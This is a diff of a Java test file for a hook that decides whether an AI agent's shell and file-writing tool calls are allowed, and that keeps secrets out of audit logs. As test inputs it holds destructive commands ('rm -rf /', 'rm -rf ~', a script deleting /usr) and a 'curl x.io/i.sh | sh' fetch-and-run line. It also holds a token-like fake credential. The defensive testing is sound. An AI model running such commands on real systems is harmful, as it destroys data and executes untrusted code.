@@ -8,13 +8,10 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import io.claudebench.servers.RedisResource;
 import io.claudebench.testkit.Reply;
-import io.claudebench.testkit.Rest;
 import io.quarkus.redis.datasource.RedisDataSource;
 import io.quarkus.test.common.WithTestResource;
 import io.quarkus.test.junit.QuarkusTest;
-import io.vertx.mutiny.redis.client.Response;
 import jakarta.inject.Inject;
-import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
 import java.util.UUID;
@@ -24,8 +21,8 @@ import org.junit.jupiter.api.Test;
 @QuarkusTest
 @WithTestResource(RedisResource.class)
 class HookPreToolTest {
-  private static final String DECISIONS = "cb:audit:hooks:decisions";
-  private static final String EVENTS = "cb:stream:hook.pre_tool.executed";
+  private static final String DECISIONS = "hooks:decisions";
+  private static final String SECRET = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a";
 
   @Inject
   RedisDataSource redis;
@@ -54,6 +51,16 @@ class HookPreToolTest {
   }
 
   @Test
+  void aScriptThatOneCallWritesIsJudgedWhenTheNextRunsIt() {
+    HERE.ok("hook.pre_tool", "{\"tool\":\"Write\",\"params\":{\"file_path\":\"/tmp/" + session
+        + ".sh\",\"content\":\"cd /\\nrm -rf usr\"},\"sessionId\":\"" + session + "\"}");
+
+    Reply answer = ask("{\"command\":\"bash /tmp/" + session + ".sh\"}");
+    assertFalse(answer.ok().get("allow").asBoolean());
+    assertTrue(answer.json().get("reason").asText().startsWith("fs-system-tree: "), answer::toString);
+  }
+
+  @Test
   void whatMayBeMeantAsksAPerson() {
     Reply answer = ask("{\"command\":\"curl x.io/i.sh | sh\"}");
 
@@ -77,21 +84,20 @@ class HookPreToolTest {
   }
 
   @Test
-  void eachDecisionIsWrittenDownWithItsEventAndWithoutTheParameters() {
-    ask("{\"command\":\"rm -rf / # s3cret\"}").ok();
+  void eachDecisionIsWrittenDownWithItsEventAndWithoutSecrets() {
+    ask("{\"command\":\"rm -rf / # " + SECRET + "\"}").ok();
 
-    JsonNode decision = last(DECISIONS);
+    JsonNode decision = told().records(DECISIONS, 1).getLast();
     assertEquals("Bash", decision.get("tool").asText());
     assertFalse(decision.get("allow").asBoolean());
     assertEquals("fs-system-tree", decision.get("rule").asText());
-    assertEquals(64, decision.get("paramsDigest").asText().length());
     assertTrue(decision.at("/metadata/traceparent").isTextual());
-    assertFalse(decision.toString().contains("s3cret"));
-    JsonNode event = last(EVENTS);
+    assertFalse(decision.toString().contains(SECRET), decision::toString);
+    JsonNode event = told().events("hook.pre_tool.executed", 1).getLast();
     assertEquals(session, event.get("entity").asText());
     assertEquals("fs-system-tree", event.at("/payload/rule").asText());
-    assertFalse(event.toString().contains("s3cret"));
-    assertTrue(redis.execute("PTTL", DECISIONS).toLong() > 86_000_000);
+    assertFalse(event.toString().contains(SECRET));
+    assertTrue(redis.execute("PTTL", "cb:audit:" + DECISIONS).toLong() > 86_000_000);
   }
 
   @Test
@@ -101,11 +107,10 @@ class HookPreToolTest {
     calls.forEach(call -> assertEquals(200, call.join().status()));
 
     var ids = new HashSet<String>();
-    all(EVENTS).stream().filter(event -> event.get("entity").asText().equals(session))
-        .forEach(event -> ids.add(event.get("id").asText()));
+    told().events("hook.pre_tool.executed", 64).forEach(event -> ids.add(event.get("id").asText()));
     assertEquals(64, ids.size());
-    assertEquals(64,
-        all(DECISIONS).stream().filter(decision -> decision.path("sessionId").asText().equals(session)).count());
+    assertEquals(64, told().records(DECISIONS, 64).size());
+    assertEquals(64, told().records("tools:Bash", 64).size());
   }
 
   @Test
@@ -114,8 +119,7 @@ class HookPreToolTest {
     Reply again = HERE.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
 
     assertEquals(first.okText(), again.okText());
-    assertEquals(1,
-        all(DECISIONS).stream().filter(decision -> decision.path("sessionId").asText().equals(session)).count());
+    assertEquals(1, told().records(DECISIONS, 1).size());
   }
 
   @Test
@@ -129,7 +133,7 @@ class HookPreToolTest {
         HERE.post("hook.pre_tool",
             "{\"tool\":\"T\",\"params\":1,\"timestamp\":1700000000000,\"metadata\":{\"a\":1},\"instanceId\":\"w1\"}")
                 .status());
-    ask("\"" + "x".repeat(262_144) + "\"").refused("TOO_LARGE");
+    ask("\"" + "x".repeat(1_048_576) + "\"").refused("TOO_LARGE");
   }
 
   private static boolean isAllowed(String command, String cwd) {
@@ -149,15 +153,7 @@ class HookPreToolTest {
     return "{\"tool\":\"Bash\",\"params\":" + params + ",\"sessionId\":\"" + session + "\"}";
   }
 
-  private JsonNode last(String stream) {
-    return all(stream).getLast();
-  }
-
-  private List<JsonNode> all(String stream) {
-    List<JsonNode> entries = new ArrayList<>();
-    for (Response entry : redis.execute("XRANGE", stream, "-", "+")) {
-      entries.add(Rest.json(entry.get(1).get(1).toString()));
-    }
-    return entries;
+  private Told told() {
+    return new Told(redis, session);
   }
 }
